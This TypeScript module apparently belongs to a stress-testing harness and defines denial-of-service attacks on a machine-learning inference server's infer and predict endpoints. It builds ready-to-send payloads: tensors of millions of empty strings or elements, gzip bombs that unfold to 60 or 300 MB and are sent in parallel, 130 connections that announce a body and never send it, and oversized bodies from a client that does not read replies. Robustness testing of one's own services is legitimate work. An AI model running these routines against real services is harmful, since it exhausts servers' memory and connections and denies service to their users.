/**
 * Attacks by bodies: tensors of nothing, bombs in gzip, lengths that are announced and never sent, more than the limit from a client that
 * does not listen.
 * @module
 */
import { concat } from "@std/bytes/concat";
import { again, type Attack, type AttackContext } from "./attack.ts";
import { ask, parseAnswer, requestBytes } from "./connection.ts";
import { eachSecond, jsonRequest } from "./messages.ts";

/** How long the attacker waits for one answer. */
const PATIENCE_MS = 60_000;

const encode = (text: string) => new TextEncoder().encode(text);

/** A JSON request for a tensor of that many empty strings. */
export function emptyStrings(name: string, elements: number): Uint8Array<ArrayBuffer> {
  const head = `{"inputs":[{"name":"image","shape":[${elements}],"datatype":"BYTES","data":[`;
  return jsonRequest(`/v2/models/${name}/infer`, `${head}${'"",'.repeat(elements - 1)}""]}]}`);
}

/** The same in the binary tensor data extension, where an empty element is a length of zero. */
export function emptyElements(name: string, elements: number): Uint8Array<ArrayBuffer> {
  const input = { name: "image", shape: [elements], datatype: "BYTES" };
  const json = encode(JSON.stringify({
    inputs: [{ ...input, parameters: { binary_data_size: 4 * elements } }],
  }));
  return requestBytes("POST", `/v2/models/${name}/infer`, {
    headers: {
      "Content-Type": "application/octet-stream",
      "Inference-Header-Content-Length": `${json.length}`,
      Connection: "close",
    },
    body: concat([json, new Uint8Array(4 * elements)]),
  });
}

/** That many megabytes of zeros, in gzip; the zeros are never in memory at once. */
export async function gzipBomb(megabytes: number): Promise<Uint8Array<ArrayBuffer>> {
  const zeros = new Uint8Array(1e6);
  let left = megabytes;
  const stream = new ReadableStream<Uint8Array<ArrayBuffer>>({
    pull: (controller) => left-- > 0 ? controller.enqueue(zeros) : controller.close(),
  });
  return await new Response(stream.pipeThrough(new CompressionStream("gzip"))).bytes();
}

async function bombRequest(megabytes: number): Promise<Uint8Array<ArrayBuffer>> {
  const body = await gzipBomb(megabytes);
  return requestBytes("POST", "/predict", {
    headers: { "Content-Encoding": "gzip", Connection: "close" },
    body,
  });
}

/** Larger than the largest body that is taken, by default. */
const TOO_LARGE = 21_000_000;

/** Sends everything, and only then looks for an answer: once a second. */
async function sendBeforeReading({ target, seconds, count }: AttackContext, request: Uint8Array) {
  const { hostname, port } = target;
  let slowestMs = 0, sentWhole = 0;
  await again(seconds, 1000, async () => {
    const started = performance.now();
    // Reads nothing before it is asked to, which a stream that listens to its socket does.
    const connection = await Deno.connect({ hostname, port });
    const giveUp = setTimeout(() => connection.close(), PATIENCE_MS);
    let received: Uint8Array<ArrayBuffer> = new Uint8Array();
    let outcome = "none";
    try {
      try {
        for (let at = 0; at < request.length;) at += await connection.write(request.subarray(at));
        sentWhole++;
      } catch { // the server has closed; what it said before may still be there
      }
      const buffer = new Uint8Array(10_000);
      for (let answer; answer === undefined; answer = parseAnswer(received)) {
        const length = await connection.read(buffer);
        if (length === null) throw new Error("closed");
        received = concat([received, buffer.subarray(0, length)]);
      }
      outcome = String(parseAnswer(received)!.status);
    } catch {
      outcome = performance.now() - started >= PATIENCE_MS ? "none" : "cut";
    } finally {
      clearTimeout(giveUp);
      try {
        connection.close();
      } catch { // given up
      }
    }
    count(outcome);
    slowestMs = Math.max(slowestMs, Math.round(performance.now() - started));
  });
  return { slowestMs, sentWhole };
}

/** `bytes` of zeros in chunks of 64 kB. */
function chunked(bytes: number): Uint8Array<ArrayBuffer> {
  const size = 65_536;
  const piece = concat([encode(`${size.toString(16)}\r\n`), new Uint8Array(size), encode("\r\n")]);
  return concat([...Array.from({ length: Math.ceil(bytes / size) }, () => piece), encode("0\r\n\r\n")]);
}

/** The attacks. */
export const bodyAttacks: readonly Attack[] = [
  {
    name: "empty strings in JSON, 18 MB",
    what: "a tensor of six million empty strings in JSON to v2 infer, one a second",
    run: (context) => eachSecond(context, emptyStrings(context.model.name, 6_000_000)),
  },
  {
    name: "empty strings in JSON, 1.8 MB",
    what: "a tensor of 600,000 empty strings in JSON to v2 infer, one a second",
    run: (context) => eachSecond(context, emptyStrings(context.model.name, 600_000)),
  },
  {
    name: "empty elements in binary, 19 MB",
    what: "a binary tensor of 4.8 million empty elements to v2 infer, one a second",
    run: (context) => eachSecond(context, emptyElements(context.model.name, 4_800_000)),
  },
  {
    name: "gzip bombs, 20 of 300 MB",
    what: "20 bodies of 292 kB at once that unfold to 300 MB, again every two seconds",
    async run({ target, seconds, count }) {
      const request = await bombRequest(300);
      let slowestMs = 0;
      await again(seconds, 2000, async () => {
        await Promise.all(Array.from({ length: 20 }, async () => {
          const { outcome, milliseconds } = await ask(target, request, PATIENCE_MS);
          count(outcome);
          slowestMs = Math.max(slowestMs, Math.round(milliseconds));
        }));
      });
      return { bytes: request.length, slowestMs };
    },
  },
  {
    name: "gzip bomb, 58 kB",
    what: "a body of 58 kB that unfolds to 60 MB, one a second",
    run: async (context) => await eachSecond(context, await bombRequest(60)),
  },
  {
    name: "announced and never sent",
    what:
      "130 connections announce a body of 2 MB and send nothing of it; those that are answered come again",
    async run({ target, seconds, count }) {
      const request = requestBytes("POST", "/predict", { announce: 2_000_000 });
      const end = performance.now() + seconds * 1000;
      await Promise.all(Array.from({ length: 130 }, async () => {
        while (performance.now() < end) {
          const { outcome } = await ask(target, request, end - performance.now());
          count(outcome === "none" ? "held to the end" : outcome);
          if (outcome !== "none") await new Promise((resolve) => setTimeout(resolve, 500));
        }
      }));
    },
  },
  {
    name: "21 MB, read afterwards",
    what: "a body of 21 MB with its length to /predict, by a client that reads only when it has sent all",
    run: (context) =>
      sendBeforeReading(context, requestBytes("POST", "/predict", { body: new Uint8Array(TOO_LARGE) })),
  },
  {
    name: "21 MB in chunks, read afterwards",
    what: "the same in chunks, without a length",
    run: (context) =>
      sendBeforeReading(
        context,
        concat([
          requestBytes("POST", "/predict", { headers: { "Transfer-Encoding": "chunked" } }),
          chunked(TOO_LARGE),
        ]),
      ),
  },
];
